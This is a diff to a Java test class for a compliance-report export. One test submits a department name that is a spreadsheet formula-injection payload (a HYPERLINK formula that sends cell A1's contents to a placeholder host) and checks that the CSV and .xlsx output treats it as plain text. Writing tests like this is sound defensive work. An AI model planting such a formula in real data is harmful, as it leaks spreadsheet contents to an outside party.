@@ -112,6 +112,7 @@ class ComplianceReportTest {
         Map<String, Object> m = entryOf(Fixtures.HANGZHOU_POLICE, name);
         m.put("providerDepartmentCode", POLICE);
         m.put("providerDepartmentName", "温州市公安局");
+        FakeExchange.registerDepartment(POLICE, "温州市公安局");
         m.put("regionCode", WENZHOU);
         return m;
     }
@@ -324,6 +325,7 @@ class ComplianceReportTest {
         m.put("providerDepartmentCode", dept);
         m.put("providerDepartmentName", deptName);
         m.put("regionCode", Fixtures.regionOf(dept));
+        FakeExchange.registerDepartment(dept, deptName);
         return m;
     }
 
@@ -438,14 +440,15 @@ class ComplianceReportTest {
 
     @Test
     void aDepartmentNameThatWouldRunAsAFormulaIsTextInTheCsvFile() throws IOException {
-        // 衢州 (330800): a region no other test uses; the name is the editor's free text
+        // 衢州 (330800): a region no other test uses; the name is the register's, which the catalogue does not vet
         String dept = code("11330800002511010");
         String name = "=HYPERLINK(\"http://x.example/?\"&A1,\"详情\")";
         Map<String, Object> body = entryOf(dept, "衢州公式名称目录");
         body.put("providerDepartmentName", name);
+        FakeExchange.registerDepartment(dept, name);
         submitted(body, calendar.today().toString());
 
-        // JSON and .xlsx (an inline string, never a formula) as the editor wrote it
+        // JSON and .xlsx (an inline string, never a formula) as the register gives it
         assertEquals(List.of(name), report(auditor(), "?region=330800").getList("departments.departmentName"));
         byte[] xlsx = as(auditor()).queryParam("region", "330800").queryParam("format", "xlsx").get(R).then()
                 .statusCode(200).extract().asByteArray();
